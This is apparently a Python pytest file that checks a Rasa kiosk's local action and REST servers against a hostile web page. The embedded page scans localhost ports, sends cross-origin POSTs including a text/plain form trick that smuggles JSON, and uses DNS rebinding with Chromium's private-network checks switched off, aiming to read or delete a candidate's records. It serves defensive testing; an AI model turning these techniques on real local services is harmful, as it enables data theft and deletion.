"""A page of another origin, in a real Chromium on the same computer: it finds the servers, no more.

It scans the ports, asks to have an answer quoted, and has the record deleted, in all ways in which
a page can send something: with and without CORS, as a form, and under its own name, led to this
machine. First it does so to an action server as this project once had it, and succeeds: so the test
can fail.
"""

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from second_round import servers

from ..e2e.backend import wait_until
from ..e2e.candidate import Candidate
from ..e2e.kiosk_backend import KioskBackend
from ..kiosk.chromium import NONE, launch_options
from .unprotected import ANSWER

EVIL, REBOUND = "evil.example", "rebind.evil.example"
#: Ways to send a POST; each of them is enough.
WAYS = ("cors", "no-cors", "form")
JSON = "application/json"

PAGE = """<!doctype html><title>Nice pictures</title><script>
const scan = async (ports) => {
  const found = [];
  for (const port of ports) {
    const reached = await fetch(`http://127.0.0.1:${port}/`, {mode: "no-cors"}).catch(() => null);
    if (reached) found.push(port);
  }
  return found;
};
const asForm = (url, body) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.name = `frame-${Math.random()}`;
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "post", enctype: "text/plain", action: url, target: frame.name});
  const field = document.createElement("input");
  // Sent as name=value; the equals sign goes into a text that nobody looks at.
  Object.assign(field, {name: body.slice(0, -1) + ', "x": "', value: '"}'});
  form.append(field);
  document.body.append(form);
  frame.onload = () => done("");
  form.submit();
});
const post = async (way, url, body) => {
  if (way === "form") return asForm(url, body);
  const asked = {method: "POST", mode: way, body, headers: {"Content-Type": "text/plain"}};
  return fetch(url, asked).then((answer) => answer.text()).catch(() => "");
};
const preflighted = (url, body, kind) => fetch(
  url, {method: "POST", body, headers: {"Content-Type": kind}},
).then((answer) => answer.text()).catch(() => "");
const get = (url) => fetch(url).then((answer) => answer.text()).catch(() => "");
</script>"""


def call(action: str, slots: dict[str, Any]) -> str:
    """What Rasa sends to have an action run."""
    said = {"text": "x", "metadata": {"candidate": slots.get("candidate")}}
    tracker = {"sender_id": "page", "slots": slots, "latest_message": said, "events": []}
    return json.dumps(
        {
            "next_action": action,
            "sender_id": "page",
            "tracker": {**tracker, "paused": False, "active_loop": {}},
            "domain": {"intents": []},
            "version": "3.6.21",
        }
    )


class _Evil(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def page() -> Iterator[Any]:
    """The page, open in a browser on this computer."""
    options = launch_options()
    if options is None:
        pytest.skip(NONE)
    from playwright.sync_api import sync_playwright

    evil = ThreadingHTTPServer((servers.LOOPBACK, 0), _Evil)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    rules = f"MAP {EVIL} {servers.LOOPBACK}, MAP {REBOUND} {servers.LOOPBACK}"
    options["args"] = [*options.get("args", []), f"--host-resolver-rules={rules}"]
    # What this browser itself may hold back is not what is tried here; others do not.
    options["args"].append(
        "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults"
    )
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(**options)
        opened = browser.new_context().new_page()
        opened.goto(f"http://{EVIL}:{evil.server_port}/")
        yield opened
        browser.close()
    evil.shutdown()


def rebound(page: Any, port: int, path: str, body: str | None) -> str:
    """What the page gets under its own name, once that leads to a port of this machine."""
    own = page.context.new_page()
    try:
        own.goto(f"http://{REBOUND}:{port}/", wait_until="commit")
        ask = """([path, body]) => fetch(path, body === null ? {} : {
            method: "POST", body, headers: {"Content-Type": "application/json"},
        }).then((answer) => answer.text()).catch(() => "")"""
        return str(own.evaluate(ask, [path, body]))
    finally:
        own.close()


def test_an_unprotected_action_server_tells_and_deletes_whatever_it_is_asked(
    page: Any, tmp_path: Path
) -> None:
    port, deleted = servers.free_port(), tmp_path / "deleted"
    script = Path(__file__).with_name("unprotected.py")
    process = subprocess.Popen(
        [sys.executable, str(script), str(port), str(deleted)], stderr=subprocess.DEVNULL
    )
    try:
        wait_until(
            lambda: servers.answer_of(servers.LOOPBACK, port, "/health") is not None, "it is there"
        )
        assert page.evaluate("(ports) => scan(ports)", [port - 1, port, port + 1]) == [port]
        url = f"http://{servers.LOOPBACK}:{port}/webhook"
        quoted = page.evaluate(
            "([url, body]) => post('cors', url, body)", [url, call("action_explain_score", {})]
        )
        assert ANSWER in quoted
        for way in WAYS:
            sent = [way, url, call("action_delete_data", {"candidate": way})]
            page.evaluate("([way, url, body]) => post(way, url, body)", sent)
        rebound(page, port, "/webhook", call("action_delete_data", {"candidate": "rebound"}))
        assert ANSWER in rebound(page, port, "/webhook", call("action_explain_score", {}))
    finally:
        process.kill()
        process.wait()
    assert deleted.read_text().split() == [*WAYS, "rebound"]


@pytest.fixture(scope="module")
def candidate(house: KioskBackend) -> Iterator[Candidate]:
    """Somebody who has answered a question on this computer."""
    one = Candidate(house, "otter-keeper")
    one.begin()
    one.answer(f"{ANSWER} I put up a fence the same day, and nobody was bitten since.")
    assert one.attempts and ANSWER in one.attempts[0].text
    yield one
    one.close()


def test_the_page_finds_the_action_server_and_gets_nothing_out_of_it(
    page: Any, house: KioskBackend, candidate: Candidate
) -> None:
    port = int(house.action_url.rpartition(":")[2])
    assert page.evaluate("(ports) => scan(ports)", [port]) == [port]
    slots = {**candidate.slots, "candidate": candidate.name, "delete_confirmed": True}
    calls = [
        ("/webhook", call("action_explain_score", slots)),
        ("/webhook", call("action_delete_data", slots)),
        (f"/record/forget?candidate={candidate.name}", "{}"),
    ]
    for path, body in calls:
        url = house.action_url + path
        for way in WAYS:
            said = page.evaluate("([way, url, body]) => post(way, url, body)", [way, url, body])
            assert said == ""
        assert (
            page.evaluate("([url, body, kind]) => preflighted(url, body, kind)", [url, body, JSON])
            == ""
        )
        assert list(json.loads(rebound(page, port, path, body))) == ["error"]
    report = f"/record/report?candidate={candidate.name}"
    assert page.evaluate("(url) => get(url)", house.action_url + report) == ""
    assert "otter" not in rebound(page, port, report, None)
    assert ANSWER in candidate.attempts[0].text

    # The same calls by whoever has the secret: they would have done it.
    with httpx.Client(
        base_url=house.action_url,
        headers={"Authorization": f"Bearer {house.secret}", "Content-Type": JSON},
        trust_env=False,
    ) as server:
        assert "otter" in server.post("/webhook", content=calls[0][1]).text
        assert len(candidate.attempts) == 1
        assert server.post("/webhook", content=calls[1][1]).status_code == 200
    assert candidate.attempts == []


def test_the_page_gets_nothing_out_of_rest_either(page: Any, house: KioskBackend) -> None:
    one = Candidate(house, "fence-builder")
    try:
        one.begin()
        port = int(house.url.rpartition(":")[2])
        before = len(one.events)
        message = json.dumps({"sender": one.sender, "message": "delete my data"})
        path = "/webhooks/rest/webhook"
        for way in WAYS:
            sent = [way, house.url + path, message]
            assert page.evaluate("([way, url, body]) => post(way, url, body)", sent) == ""
        sent = [house.url + path, message, JSON]
        assert page.evaluate("([url, body, kind]) => preflighted(url, body, kind)", sent) == ""
        assert list(json.loads(rebound(page, port, path, message))) == ["error"]
        replies = f"/webhooks/rest/replies?sender={one.sender}"
        assert page.evaluate("(url) => get(url)", house.url + replies) == ""
        assert list(json.loads(rebound(page, port, replies, None))) == ["error"]
        assert list(json.loads(rebound(page, port, "/kiosk/api/content", None))) == ["error"]
        assert len(one.events) == before
        one.say("repeat the question")  # the same way is open to programs on this machine
        assert len(one.events) > before
    finally:
        one.close()
